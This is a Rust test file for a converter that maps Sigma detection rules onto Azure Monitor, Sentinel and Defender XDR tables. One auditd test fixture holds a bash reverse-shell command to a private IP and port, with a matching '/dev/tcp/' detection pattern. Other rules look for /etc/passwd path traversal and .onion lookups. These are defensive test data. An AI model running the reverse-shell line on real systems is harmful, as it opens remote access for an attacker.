        "  sel:\n    EventID: 3008\n    QueryName|endswith: .onion\n  condition: sel",
    );
    let m = map("microsoft_xdr", &r);
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("DeviceEvents"));
    assert!(has_leaf(&m, "ActionType", "DnsQueryResponse"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "AdditionalFields.DnsQueryString", "*.onion"), "{:?}", shown(&m));
}

// ---------------------------------------------------------------------------
// Cloud, Linux and web logs on azure_monitor (and the ASIM fallback to them)

/// The table a rule of this logsource and detection lands on, with its mapping.
fn cloud(target: &str, logsource: &str, detection: &str) -> Mapped {
    map(target, &rule_with(&format!("  {logsource}"), detection))
}

#[test]
fn aws_cloudtrail_columns_and_json_text_paths() {
    let m = cloud(
        "azure_monitor",
        "{product: aws, service: cloudtrail}",
        "  sel:\n    eventSource: iam.amazonaws.com\n    eventName: CreateUser\n    userIdentity.type: Root\n    requestParameters.userName|contains: admin\n  condition: sel\n",
    );
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("AWSCloudTrail"));
    assert!(has_leaf(&m, "EventSource", "iam.amazonaws.com") && has_leaf(&m, "EventName", "CreateUser"));
    assert!(has_leaf(&m, "UserIdentityType", "Root"), "{:?}", shown(&m));
    // RequestParameters is a string column holding JSON: the path is read through parse_json.
    let path = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("RequestParameters.userName"));
    assert_eq!(path.map(|l| l.column_type), Some(ColumnType::JsonText));
    // A field CloudTrail does not write is an error, not a guessed column.
    let m = cloud("azure_monitor", "{product: aws, service: cloudtrail}", "  sel:\n    status: x\n  condition: sel\n");
    assert!(m.notes.iter().any(|n| n.code == "unmapped-field"), "{:#?}", m.notes);
    // sentinel_asim reads the same native table, and says so.
    let m = cloud(
        "sentinel_asim",
        "{product: aws, service: cloudtrail}",
        "  sel:\n    eventName: CreateUser\n  condition: sel\n",
    );
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("AWSCloudTrail"));
    assert!(m.notes.iter().any(|n| n.code == "native-table"), "{:#?}", m.notes);
}

#[test]
fn entra_id_tables() {
    let m = cloud(
        "azure_monitor",
        "{product: azure, service: auditlogs}",
        "  sel:\n    properties.message: Add member to role\n    Category: RoleManagement\n  condition: sel\n",
    );
    assert_eq!(m.table.as_deref(), Some("AuditLogs"));
    assert!(has_leaf(&m, "OperationName", "Add member to role") && has_leaf(&m, "Category", "RoleManagement"));
    // properties.message is the activity's name only approximately: said, not silent.
    assert!(codes(&m).contains(&(Severity::Warning, "lossy-mapping".into())), "{:#?}", m.notes);
    let m = cloud(
        "azure_monitor",
        "{product: azure, service: signinlogs}",
        "  sel:\n    ResultType: 50053\n    DeviceDetail.trusttype: Workplace\n    Status: Success\n  condition: sel\n",
    );
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("SigninLogs"));
    assert!(
        has_leaf(&m, "ResultType", "50053") && has_leaf(&m, "DeviceDetail.trustType", "Workplace"),
        "{:?}",
        shown(&m)
    );
    // The portal's Status Success is result code 0, and Failure any other code.
    assert!(has_leaf(&m, "ResultType", "0"), "{:?}", shown(&m));
    let m = cloud(
        "azure_monitor",
        "{product: azure, service: signinlogs}",
        "  sel:\n    Status: Failure\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(matches!(&m.expr, Expr::Not(_)) || leaves(&m).iter().any(|l| l.item.negate), "{:?}", m.expr);
    let m = cloud(
        "azure_monitor",
        "{product: azure, service: signinlogs}",
        "  sel:\n    Status|contains: MFA denied\n  condition: sel\n",
    );
    // Other words are looked for in the Status object's text, with a warning.
    assert!(has_leaf(&m, "Status", "*MFA denied*"), "{:?}", shown(&m));
    assert!(codes(&m).contains(&(Severity::Warning, "lossy-mapping".into())), "{:#?}", m.notes);
    let m =
        cloud("azure_monitor", "{product: azure, service: signinlogs}", "  sel:\n    Status: 5\n  condition: sel\n");
    assert!(m.notes.iter().any(|n| n.code == "unmapped-value"), "{:#?}", m.notes);
    let m = cloud(
        "azure_monitor",
        "{product: azure, service: riskdetection}",
        "  sel:\n    riskEventType: anomalousToken\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(m.table.as_deref() == Some("AADUserRiskEvents") && has_leaf(&m, "RiskEventType", "anomalousToken"));
    let m = cloud("azure_monitor", "{product: azure, service: activitylogs}", "  sel:\n    operationName: MICROSOFT.AUTHORIZATION/ELEVATEACCESS/ACTION\n    properties.message: x\n  condition: sel\n");
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("AzureActivity"));
    assert!(has_leaf(&m, "OperationNameValue", "MICROSOFT.AUTHORIZATION/ELEVATEACCESS/ACTION"));
    assert!(has_leaf(&m, "Properties_d.message", "x"), "{:?}", shown(&m));
    // On sentinel_asim, the Azure activity log keeps its ASIM schema.
    let m = cloud(
        "sentinel_asim",
        "{product: azure, service: activitylogs}",
        "  sel:\n    operationName: x\n  condition: sel\n",
    );
    assert!(!m.notes.iter().any(|n| n.code == "native-table"), "{:#?}", m.notes);
}

#[test]
fn saas_audit_tables() {
    let m = cloud("azure_monitor", "{product: okta, service: okta}", "  sel:\n    eventType: user.mfa.factor.deactivate\n    debugContext.debugData.requestUri|contains: admin\n    securityContext.isProxy: 'true'\n  condition: sel\n");
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("OktaV2_CL"));
    assert!(has_leaf(&m, "EventOriginalType", "user.mfa.factor.deactivate"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "DebugData.requestUri", "*admin*") && has_leaf(&m, "SecurityContextIsProxy", "true"));
    let m = cloud(
        "azure_monitor",
        "{product: gcp, service: gcp.audit}",
        "  sel:\n    gcp.audit.method_name: v1.compute.instances.delete\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(m.table.as_deref() == Some("GCPAuditLogs") && has_leaf(&m, "MethodName", "v1.compute.instances.delete"));
    let m = cloud(
        "azure_monitor",
        "{product: github, service: audit}",
        "  sel:\n    action: repo.destroy\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(m.table.as_deref() == Some("GitHubAuditLogPolling_CL") && has_leaf(&m, "action_s", "repo.destroy"));
    let m = cloud(
        "azure_monitor",
        "{product: m365, service: audit}",
        "  sel:\n    Operation: Set-Mailbox\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(m.table.as_deref() == Some("OfficeActivity") && has_leaf(&m, "Operation", "Set-Mailbox"));
    // The admin application is the row filter, so restating it is dropped.
    let m = cloud(
        "azure_monitor",
        "{product: gcp, service: google_workspace.admin}",
        "  sel:\n    eventService: admin.googleapis.com\n    eventName: REMOVE_PRIVILEGE\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(
        has_leaf(&m, "IdApplicationName", "admin") && has_leaf(&m, "EventName", "REMOVE_PRIVILEGE"),
        "{:?}",
        shown(&m)
    );
}

/// Microsoft 365's alerts (alert policies, Defender for Cloud Apps), as the
/// rules name the audit log's alert records: the alert's name is the one
/// condition the alert tables can hold; the workload and outcome are dropped,
/// each with a warning that says how the query widens.
#[test]
fn m365_alerts_on_the_alert_tables() {
    let detection = "  sel:\n    eventSource: SecurityComplianceCenter\n    eventName: User restricted from sending email\n    status: success\n  condition: sel\n";
    for (target, table, column) in [
        ("azure_monitor", "SecurityAlert", "AlertName"),
        ("sentinel_asim", "SecurityAlert", "AlertName"),
        ("microsoft_xdr", "AlertInfo", "Title"),
    ] {
        for service in ["threat_management", "threat_detection"] {
            let m = cloud(target, &format!("{{product: m365, service: {service}}}"), detection);
            no_errors(&m);
            assert_eq!(m.table.as_deref(), Some(table), "{target} {service}");
            assert_eq!(shown(&m), vec![(column.to_string(), vec!["User restricted from sending email".to_string()])]);
            for field in ["eventSource", "status"] {
                assert!(
                    m.notes.iter().any(|n| n.code == "lossy-mapping"
                        && n.message.starts_with(&format!("{field} on {table}: "))
                        && n.message.ends_with("the query is wider than the rule")),
                    "{target} {field}: {:#?}",
                    m.notes
                );
            }
            assert!(m.notes.iter().any(|n| n.code == "table-mapping"), "{target}: {:#?}", m.notes);
        }
        // The audited record's payload is not in an alert row: refused, not guessed.
        let m = cloud(
            target,
            "{product: m365, service: threat_management}",
            "  sel:\n    eventSource: SecurityComplianceCenter\n    Payload|contains: New-ComplianceSearchAction\n  condition: sel\n",
        );
        assert!(
            m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-field" && n.message.starts_with("Payload on ")),
            "{target}: {:#?}",
            m.notes
        );
    }
    // Exchange's audit records stay unmapped, with the reason.
    let m =
        cloud("azure_monitor", "{product: m365, service: exchange}", "  sel:\n    eventName: x\n  condition: sel\n");
    assert!(m.notes.iter().any(|n| n.code == "no-table" && n.message.contains("Exchange")), "{:#?}", m.notes);
}

#[test]
fn kubernetes_proxy_webserver_and_linux_tables() {
    let m = cloud(
        "azure_monitor",
        "{product: kubernetes, category: application, service: audit}",
        "  sel:\n    verb: create\n    objectRef.resource: pods\n  condition: sel\n",
    );
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("AzureDiagnostics"));
    assert!(
        has_leaf(&m, "Category", "kube-audit") && has_leaf(&m, "log_s.objectRef.resource", "pods"),
        "{:?}",
        shown(&m)
    );
    let m = cloud(
        "azure_monitor",
        "{category: proxy}",
        "  sel:\n    c-useragent: curl*\n    cs-method: GET\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(m.table.as_deref() == Some("CommonSecurityLog") && has_leaf(&m, "RequestClientApplication", "curl*"));
    // CommonSecurityLog holds every CEF source: said as a warning.
    assert!(codes(&m).contains(&(Severity::Warning, "lossy-mapping".into())), "{:#?}", m.notes);
    let m = cloud(
        "azure_monitor",
        "{category: webserver}",
        "  sel:\n    cs-uri-query|contains: /etc/passwd\n    sc-status: 200\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(m.table.as_deref() == Some("W3CIISLog") && has_leaf(&m, "csUriQuery", "*/etc/passwd*"));
    let m = cloud(
        "azure_monitor",
        "{product: linux, service: sshd}",
        "  keywords:\n    - 'error: buffer_get_ret'\n  condition: keywords\n",
    );
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("Syslog"));
    let m =
        cloud("azure_monitor", "{product: linux}", "  keywords:\n    - 'Accepted password'\n  condition: keywords\n");
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("Syslog"));
    // auditd's records: the values after `name=` in Syslog's message text, on
    // sentinel_asim too (it falls back to azure_monitor's tables); a field
    // auditd does not write is an error.
    for target in ["azure_monitor", "sentinel_asim"] {
        let m = cloud(
            target,
            "{product: linux, service: auditd}",
            "  sel:\n    type: EXECVE\n    a0: curl\n  condition: sel\n",
        );
        no_errors(&m);
        assert!(
            m.table.as_deref() == Some("Syslog") && has_leaf(&m, "SyslogMessage:a0", "\"curl\""),
            "{:#?}",
            leaves(&m)
        );
        let m = cloud(target, "{product: linux, service: auditd}", "  sel:\n    Image: /bin/sh\n  condition: sel\n");
        assert!(m.notes.iter().any(|n| n.is_error() && n.message.contains("Image")), "{:#?}", m.notes);
    }
    let m =
        cloud("azure_monitor", "{product: azure, service: pim}", "  sel:\n    riskEventType: x\n  condition: sel\n");
    assert!(
        m.notes.iter().any(|n| n.code == "no-table" && n.message.contains("Privileged Identity")),
        "{:#?}",
        m.notes
    );
}

#[test]
fn sysmon_for_linux_in_syslog() {
    let m = cloud(
        "azure_monitor",
        "{product: linux, category: process_creation}",
        "  sel:\n    Image|endswith: /curl\n    CommandLine|contains: ' && '\n  condition: sel\n",
    );
    no_errors(&m);
    assert_eq!(m.table.as_deref(), Some("Syslog"));
    assert!(has_leaf(&m, "SyslogMessage", "*<EventID>1</EventID>*"), "{:?}", shown(&m));
    let image = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("SyslogMessage.Image"));
    assert_eq!(image.map(|l| l.column_type), Some(ColumnType::EventXml));
    // The XML text keeps `&` escaped: both spellings are tested, and the note says why.
    assert!(has_leaf(&m, "SyslogMessage.CommandLine", "* &amp;&amp; *"), "{:?}", shown(&m));
    assert!(m.notes.iter().any(|n| n.code == "source-mapping" && n.message.contains("Sysmon for Linux")));
    // A value Sysmon does not write for the event is an error.
    let m = cloud(
        "azure_monitor",
        "{product: linux, category: process_creation}",
        "  sel:\n    TargetFilename: /tmp/x\n  condition: sel\n",
    );
    assert!(m.notes.iter().any(|n| n.code == "unmapped-field"), "{:#?}", m.notes);
    let m = cloud(
        "azure_monitor",
        "{product: linux, category: file_event}",
        "  sel:\n    TargetFilename|startswith: /etc/cron.d/\n  condition: sel\n",
    );
    no_errors(&m);
    assert!(
        has_leaf(&m, "SyslogMessage", "*<EventID>11</EventID>*")
            && has_leaf(&m, "SyslogMessage.TargetFilename", "/etc/cron.d/*")
    );
}

#[test]
fn cloud_records_map_onto_their_rows() {
    // CloudTrail: userIdentity is flattened into columns, requestParameters kept as JSON text.
    let r = rule_with(
        "  product: aws\n  service: cloudtrail",
        "  sel:\n    eventName: CreateUser\n    requestParameters.userName: admin\n  condition: sel",
    );
    let e = ev(
        r#"{"eventName": "CreateUser", "userIdentity": {"type": "Root", "sessionContext": {"sessionIssuer": {"type": "Role"}}},
        "requestParameters": {"userName": "admin"}}"#,
    );
    let (row, _) = map_event(&builtin("azure_monitor").unwrap_or_default(), &r, &e);
    assert_eq!(row["EventName"], "CreateUser");
    assert_eq!(row["UserIdentityType"], "Root");
    assert_eq!(row["SessionIssuerType"], "Role");
    assert_eq!(row["RequestParameters"], r#"{"userName":"admin"}"#);
    // AKS audit: the audit event becomes the JSON text of log_s.
    let r = rule_with(
        "  product: kubernetes\n  service: audit",
        "  sel:\n    verb: create\n    objectRef.resource: pods\n  condition: sel",
    );
    let e = ev(r#"{"verb": "create", "objectRef": {"resource": "pods"}}"#);
    let (row, _) = map_event(&builtin("azure_monitor").unwrap_or_default(), &r, &e);
    let log: serde_json::Value = serde_json::from_str(row["log_s"].as_str().unwrap_or_default()).unwrap_or_default();
    assert_eq!(log["objectRef"]["resource"], "pods");
    assert_eq!(row["Category"], "kube-audit");
    // Sysmon for Linux: the event's values become the XML text of SyslogMessage.
    let r = rule_with("  product: linux\n  category: process_creation", "  sel:\n    Image: /bin/sh\n  condition: sel");
    let e = ev(r#"{"EventID": 1, "Image": "/bin/sh", "CommandLine": "sh -c 'a && b'"}"#);
    let (row, _) = map_event(&builtin("azure_monitor").unwrap_or_default(), &r, &e);
    let msg = row["SyslogMessage"].as_str().unwrap_or_default();
    assert!(msg.contains("<Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID>"), "{msg}");
    assert!(msg.contains("<Data Name=\"CommandLine\">sh -c 'a &amp;&amp; b'</Data>"), "{msg}");
}

/// FortiGate's event logs: CEF records of CommonSecurityLog, `action` in
/// DeviceAction (or the FortinetFortiGate extension), the other FortiOS
/// fields read from AdditionalExtensions, on sentinel_asim too (its native
/// fallback); a field the mapping does not read is an error.
#[test]
fn fortigate_event_logs_in_common_security_log() {
    for target in ["azure_monitor", "sentinel_asim"] {
        let m = cloud(
            target,
            "{product: fortigate, service: event}",
            "  sel:\n    action: Add\n    cfgpath: system.admin\n  condition: sel\n",
        );
        no_errors(&m);
        assert_eq!(m.table.as_deref(), Some("CommonSecurityLog"), "{target}");
        for (col, value) in [
            ("DeviceAction", "Add"),
            ("AdditionalExtensions:FortinetFortiGateaction", "Add"),
            ("AdditionalExtensions:FTNTFGTcfgpath", "system.admin"),
            ("AdditionalExtensions:FortinetFortiGatecfgpath", "system.admin"),
            ("DeviceVendor", "Fortinet"),
            ("DeviceProduct", "FortiGate*"),
            ("Activity", "event:*"),
        ] {
            assert!(has_leaf(&m, col, value), "{target} {col}: {:?}", shown(&m));
        }
        let cfg =
            leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("AdditionalExtensions:FTNTFGTcfgpath"));
        assert_eq!(cfg.map(|l| l.column_type), Some(ColumnType::CefExtension));
        // Free text read from the extensions is told to be lossy.
        let m = cloud(
            target,
            "{product: fortigate, service: event}",
            "  sel:\n    cfgattr|contains: 'x'\n  condition: sel\n",
        );
        assert!(codes(&m).contains(&(Severity::Warning, "lossy-mapping".to_string())), "{:?}", codes(&m));
        let m =
            cloud(target, "{product: fortigate, service: event}", "  sel:\n    srcip: 10.0.0.1\n  condition: sel\n");
        assert!(m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-field"), "{:#?}", m.notes);
    }
    let r = rule_with("  product: fortigate\n  service: event", "  sel:\n    cfgpath: user.local\n  condition: sel");
    let q = crate::kql::convert(&r, &builtin("azure_monitor").unwrap_or_default(), &Placeholders::new());
    let text = q.queries.first().cloned().unwrap_or_default();
    assert!(text.contains("extract(@'(?:^|;)FTNTFGTcfgpath=([^;]*)', 1, AdditionalExtensions)"), "{text}");
    // The mapped expression on rows: an event mapped onto its row, and rows as the table holds
    // them (either prefix; a key name inside another value is no key).
    let p = builtin("azure_monitor").unwrap_or_default();
    let r = rule_with(
        "  product: fortigate\n  service: event",
        "  sel:\n    action: Add\n    cfgpath: user.local\n  condition: sel",
    );
    let m = map_with(&p, &r);
    let head = r#""DeviceVendor": "Fortinet", "DeviceProduct": "Fortigate", "Activity": "event:system Add""#;
    for (event, want) in [
        (r#"{"action": "Add", "cfgpath": "user.local", "cfgobj": "eve"}"#.to_string(), true),
        (r#"{"action": "Delete", "cfgpath": "user.local"}"#.to_string(), false),
        (
            format!(
                r#"{{{head}, "DeviceAction": "Add", "AdditionalExtensions": "FTNTFGTlogid=0100044547;FTNTFGTcfgpath=user.local"}}"#
            ),
            true,
        ),
        (
            format!(
                r#"{{{head}, "AdditionalExtensions": "FortinetFortiGateaction=Add;FortinetFortiGatecfgpath=user.local"}}"#
            ),
            true,
        ),
        (
            format!(r#"{{{head}, "DeviceAction": "Add", "AdditionalExtensions": "FTNTFGTcfgpath=user.localgroup"}}"#),
            false,
        ),
        (
            format!(
                r#"{{{head}, "DeviceAction": "Add", "AdditionalExtensions": "FTNTFGTmsg=xFTNTFGTcfgpath=user.local"}}"#
            ),
            false,
        ),
    ] {
        let (row, _) = map_event(&p, &r, &ev(&event));
        assert_eq!(eval(&m.expr, &Event::from_json(row.clone())), want, "{event}\n{row:?}");
    }
}

/// Zeek's DNS log on sentinel_asim: imDns, as Microsoft's Corelight Zeek
/// parser fills it; the fields that parser drops are errors. No other target
/// has Zeek's records in a table of the schema.
#[test]
fn zeek_dns_on_imdns() {
    let m = cloud(
        "sentinel_asim",
        "{product: zeek, service: dns}",
        "  sel:\n    query|endswith: '.onion'\n    id.resp_p: 53\n    qtype_name: TXT\n  condition: sel\n",
    );
    assert!(!m.notes.iter().any(Diagnostic::is_error), "{:#?}", m.notes);
    assert_eq!(m.table.as_deref(), Some("imDns"));
    assert!(has_leaf(&m, "DnsQuery", "*.onion"), "{:?}", shown(&m));
    assert!(has_leaf(&m, "EventProduct", "Zeek"), "{:?}", shown(&m));
    assert!(leaves(&m).iter().any(|l| l.item.field.as_deref() == Some("DstPortNumber")), "{:?}", shown(&m));
    assert!(has_leaf(&m, "DnsQueryTypeName", "TXT"), "{:?}", shown(&m));
    assert!(codes(&m).contains(&(Severity::Warning, "lossy-mapping".to_string())), "{:?}", codes(&m));
    for field in ["answers: 127.0.0.1", "rejected: 'true'", "Z: 0"] {
        let m = cloud(
            "sentinel_asim",
            "{product: zeek, service: dns}",
            &format!("  sel:\n    {field}\n  condition: sel\n"),
        );
        assert!(m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-field"), "{field}: {:#?}", m.notes);
    }
    // conn.log: imNetworkSession, through the same parser family.
    let m = cloud(
        "sentinel_asim",
        "{product: zeek, service: conn}",
        "  sel:\n    id.resp_p: 3389\n    service: rdp\n  condition: sel\n",
    );
    assert!(!m.notes.iter().any(Diagnostic::is_error), "{:#?}", m.notes);
    assert_eq!(m.table.as_deref(), Some("imNetworkSession"));
    assert!(
        has_leaf(&m, "NetworkApplicationProtocol", "rdp") && has_leaf(&m, "EventProduct", "Zeek"),
        "{:?}",
        shown(&m)
    );
    let m = cloud("sentinel_asim", "{product: zeek, service: conn}", "  sel:\n    conn_state: S0\n  condition: sel\n");
    assert!(m.notes.iter().any(|n| n.is_error() && n.code == "unmapped-field"), "{:#?}", m.notes);
    for target in ["azure_monitor", "microsoft_xdr"] {
        let m = cloud(target, "{product: zeek, service: dns}", "  sel:\n    query: x\n  condition: sel\n");
        assert!(m.notes.iter().any(|n| n.code == "no-table"), "{target}: {:#?}", m.notes);
    }
    for service in ["http", "smb_files", "dce_rpc", "x509", "kerberos", "rdp"] {
        let m = cloud(
            "sentinel_asim",
            &format!("{{product: zeek, service: {service}}}"),
            "  sel:\n    uid: x\n  condition: sel\n",
        );
        assert!(m.notes.iter().any(|n| n.code == "no-table"), "{service}: {:#?}", m.notes);
    }
}

/// An event mapped onto the row of a table that keeps values in its text
/// (SecurityEvent's EventData XML, auditd's record in SyslogMessage) is
/// found by the rule's query, and an event with another value is not.
#[test]
fn events_mapped_into_record_text_are_found_by_the_query() {
    let p = builtin("azure_monitor").unwrap_or_default();
    let cases = [
        (
            "  product: windows\n  service: security",
            "  sel:\n    EventID: 4698\n    TaskContent|contains: 'cmd.exe</Command>'\n  condition: sel",
            r#"{"EventID": 4698, "TaskName": "\\x", "TaskContent": "<Task><Command>cmd.exe</Command></Task>"}"#,
            r#"{"EventID": 4698, "TaskName": "\\x", "TaskContent": "<Task><Command>calc.exe</Command></Task>"}"#,
        ),
        (
            "  product: linux\n  service: auditd",
            "  sel:\n    type: EXECVE\n    a0: bash\n    a1|contains: '/dev/tcp/'\n  condition: sel",
            r#"{"type": "EXECVE", "a0": "bash", "a1": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#,
            r#"{"type": "EXECVE", "a0": "bash", "a1": "bash -i /tmp/x"}"#,
        ),
        (
            "  product: rpc_firewall\n  category: application",
            "  sel:\n    EventLog: RPCFW\n    EventID: 3\n    InterfaceUuid: 367abb81-9844-35f1-ad32-98f038001003\n    OpNum: 12\n  condition: sel",
            r#"{"EventLog": "RPCFW", "EventID": 3, "InterfaceUuid": "367abb81-9844-35f1-ad32-98f038001003", "OpNum": "12"}"#,
            r#"{"EventLog": "RPCFW", "EventID": 3, "InterfaceUuid": "367abb81-9844-35f1-ad32-98f038001003", "OpNum": "13"}"#,
        ),
        (
            "  product: fortigate\n  service: event",
            "  sel:\n    action: Add\n    cfgpath: system.admin\n  condition: sel",
            r#"{"action": "Add", "cfgpath": "system.admin", "cfgobj": "backdoor"}"#,
            r#"{"action": "Add", "cfgpath": "system.admin.x"}"#,
        ),
    ];
    for (logsource, detection, hit, miss) in cases {
        let r = rule_with(logsource, detection);
        let conv = crate::kql::convert(&r, &p, &Placeholders::new());
        let q = conv.queries.first().cloned().unwrap_or_default();
        let rows: Vec<Value> = [hit, miss].iter().map(|e| map_event(&p, &r, &ev(e)).0).collect();
        let got = crate::kusto::evaluate_matches(&q, &rows).matched(2);
        assert_eq!(got, vec![true, false], "{q}\n{rows:#?}");
    }
    // The record's spelling: an argument with a space in hex, the others quoted.
    let r = rule_with("  product: linux\n  service: auditd", "  sel:\n    type: EXECVE\n  condition: sel");
    let (row, _) = map_event(&p, &r, &ev(r#"{"type": "EXECVE", "a0": "ls", "a1": "a b"}"#));
    let msg = row["SyslogMessage"].as_str().unwrap_or_default();
    assert!(msg.starts_with("type=EXECVE msg=audit(") && msg.contains(" a0=\"ls\" a1=612062"), "{msg}");
    // SecurityEvent: a value without a column is a <Data Name> of EventData, escaped.
    let r = rule_with("  product: windows\n  service: security", "  sel:\n    EventID: 4769\n  condition: sel");
    let (row, _) = map_event(&p, &r, &ev(r#"{"EventID": 4769, "TicketOptions": "0x40810000", "ServiceName": "a&b"}"#));
    let data = row["EventData"].as_str().unwrap_or_default();
    assert!(data.contains("<Data Name=\"TicketOptions\">0x40810000</Data>"), "{data}");
    assert_eq!(row["ServiceName"], "a&b");
    // An event's own EventData object with a huge "position" is not expanded into values.
    let r = rule_with("  product: rpc_firewall\n  category: application", "  sel:\n    EventID: 3\n  condition: sel");
    let (row, _) = map_event(&p, &r, &ev(r#"{"EventID": 3, "EventData": {"18446744073709551615": "x"}}"#));
    assert!(row["EventData"].as_str().unwrap_or_default().len() < 100, "{row:?}");
}
